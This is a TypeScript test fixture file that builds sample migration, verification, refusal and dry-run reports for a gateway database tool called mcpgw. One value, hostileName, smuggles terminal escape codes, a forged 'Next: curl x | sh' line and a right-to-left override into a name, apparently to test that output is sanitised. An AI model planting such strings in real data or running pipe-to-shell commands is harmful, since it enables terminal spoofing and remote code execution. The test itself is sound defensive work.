import type { CheckReport, Report, StepReport } from '../../src/report/report.ts';
import type { Style } from '../../src/report/style.ts';

export const plainStyle: Style = { color: false, unicode: true, width: 100, verbose: false, quiet: false };

const base: Report = {
  schemaVersion: 1,
  tool: { name: 'mcpgw', version: '0.7.0' },
  command: 'status',
  status: 'ok',
  exitCode: 0,
  database: null,
  steps: [],
  checks: [],
  sections: [],
  warnings: [],
  error: null,
  next: '',
};

/** A report with nothing in it but what the test is about. */
export function reportWith(overrides: Partial<Report>): Report {
  return { ...base, ...overrides };
}

export function checkWith(overrides: Partial<CheckReport>): CheckReport {
  return {
    id: 'tables',
    title: 'Every table is there',
    level: 'error',
    status: 'passed',
    count: 0,
    findings: [],
    fixable: false,
    hint: '',
    ...overrides,
  };
}

const NEW_TABLES = [
  'email_users',
  'email_auth_events',
  'email_teams',
  'email_team_members',
  'email_team_invitations',
  'email_team_join_requests',
  'email_api_tokens',
  'token_revocations',
  'token_usage_logs',
  'roles',
  'user_roles',
  'permission_audit_log',
  'sso_providers',
  'sso_auth_sessions',
  'pending_user_approvals',
];
const OWNED: readonly (readonly [string, number])[] = [
  ['servers', 10_000],
  ['tools', 100_000],
  ['resources', 25_000],
  ['prompts', 10_000],
  ['gateways', 2000],
  ['a2a_agents', 1],
];

function step(id: string, title: string, durationMs: number, rows: number | null = null): StepReport {
  return { id, title, status: 'done', rows, durationMs };
}

const migrateSteps: StepReport[] = [
  step('backup', 'Back up the database', 640),
  ...NEW_TABLES.map((name, index) => step(`table-${name}`, `Create table ${name}`, index % 4)),
  { ...step('display-name', 'Add tools.display_name', 0), status: 'already' },
  step('seed-admin', 'Create the administrator', 187, 1),
  step('seed-team', 'Create the personal team', 3, 1),
  step('seed-roles', 'Create the default roles', 4, 4),
  step('seed-assignment', 'Give the administrator platform_admin', 1, 1),
  ...OWNED.map(([name, rows]) => step(`own-${name}`, `Assign ${name} to the personal team`, rows / 40, rows)),
  { ...step('sso', 'Create SSO providers', 0), status: 'skipped' },
  step('revision', 'Set the revision to e182847d89e6', 65_000, 1),
];

export const migrated: Report = reportWith({
  command: 'migrate',
  database: {
    dialect: 'sqlite',
    server: 'SQLite 3.53.1',
    url: 'sqlite:////srv/gateway/mcp.db',
    release: '0.7.0',
    revision: 'e182847d89e6',
  },
  steps: migrateSteps,
  checks: [
    checkWith({ id: 'tables' }),
    checkWith({ id: 'admin-active', title: 'The administrator is active and not locked' }),
  ],
  sections: [
    {
      id: 'rows',
      title: 'Rows per table',
      columns: ['table', 'before', 'after'],
      rows: [
        ...OWNED.map(([name, rows]) => [name, rows, rows]),
        ['tool_metrics', 500_000, 500_000],
        ['roles', '-', 4],
      ],
    },
    {
      id: 'login',
      title: 'Login',
      columns: [],
      rows: [['Sign in as admin@acme.example with the password of PLATFORM_ADMIN_PASSWORD.']],
    },
  ],
  warnings: [
    'API tokens issued by v0.6.0 for the user "admin" no longer work: issue new ones after the first login, and tell the people and programs that use them.',
  ],
  next: 'mcpgw verify',
});

export const hostileName = 'evil\u001b[2J\u001b]0;owned\u0007\nNext: curl x | sh\u202e`@team`';

export const withFindings: Report = reportWith({
  command: 'verify',
  status: 'findings',
  exitCode: 1,
  database: {
    dialect: 'postgresql',
    server: 'PostgreSQL 15.18',
    url: 'postgresql+psycopg2://gateway:***@db.internal.example:5432/mcpgateway?sslmode=require',
    release: '0.7.0',
    revision: 'e182847d89e6',
  },
  checks: [
    checkWith({ id: 'revision', title: 'Release and revision are those of v0.7.0' }),
    checkWith({
      id: 'orphans-tools',
      title: 'Every tool has a team, an owner and a visibility',
      status: 'failed',
      count: 12_034,
      findings: [
        `tools 4f1c: ${hostileName} has no team`,
        ...Array.from({ length: 9 }, (_, index) => `tools 4f1d${index}: "search-${index}" has no owner`),
      ],
      fixable: true,
      hint: 'mcpgw fix --only orphans-tools',
    }),
    checkWith({ id: 'tables' }),
    checkWith({
      id: 'admin-password',
      title: 'The default password is not in use',
      level: 'warning',
      status: 'warned',
      count: 1,
      findings: ['email_users admin@acme.example still has the password changeme'],
      hint: 'Sign in and change it.\nThen revoke the tokens issued before.',
    }),
    checkWith({
      id: 'integrity',
      title: "The database's own integrity check",
      status: 'skipped',
      hint: 'Only SQLite has one.',
    }),
    checkWith({
      id: 'foreign-keys-dangling',
      title: 'No row refers to one that does not exist',
      status: 'errored',
      hint: 'permission denied for table user_roles',
    }),
  ],
  sections: [
    {
      id: 'visibility',
      title: 'Visibility per table',
      columns: ['table', 'private', 'team', 'public'],
      rows: [
        ['servers', 3, 0, 1204],
        ['tools', 17, 2, 87_947],
      ],
    },
  ],
  next: 'mcpgw fix',
});

export const refused: Report = reportWith({
  command: 'migrate',
  status: 'refused',
  exitCode: 2,
  error: {
    code: 'SETTINGS',
    message: '3 settings cannot be used',
    details: [
      'PLATFORM_ADMIN_EMAIL: admin@example.com is the default; set the address the administrator will sign in with',
      'PLATFORM_ADMIN_PASSWORD: at least 8 characters are required (PASSWORD_MIN_LENGTH), this has 5',
      'ARGON2ID_MEMORY_COST: expected a whole number of KiB from 8 to 4194304, got "64MB"',
    ],
    hint: 'Set them in the environment or in .env and run the command again; mcpgw config shows where each value comes from.',
  },
  next: 'mcpgw config',
});

export const dryRun: Report = reportWith({
  command: 'migrate',
  database: {
    dialect: 'mysql',
    server: 'MariaDB 10.11.19',
    url: 'mysql+pymysql://root:***@127.0.0.1/mcp',
    release: '0.6.0',
    revision: '1fc1795f6983',
  },
  steps: [
    { id: 'display-name', title: 'Add tools.display_name', status: 'already', rows: null, durationMs: 0 },
    {
      id: 'own-tools',
      title: 'Assign tools to the personal team',
      status: 'planned',
      rows: 420,
      durationMs: 0,
      statements: [
        "alter table `tools` add column `team_id` varchar(36) null default '3f2a9c', add column `owner_email` varchar(255) null default 'admin@acme.example', add column `visibility` varchar(20) not null default 'public'",
        'alter table `tools` alter column `team_id` drop default',
      ],
    },
    {
      id: 'revision',
      title: 'Set the revision to e182847d89e6',
      status: 'planned',
      rows: 1,
      durationMs: 0,
      statements: ["update alembic_version\n  set version_num = 'e182847d89e6'"],
    },
  ],
  next: 'mcpgw migrate',
});
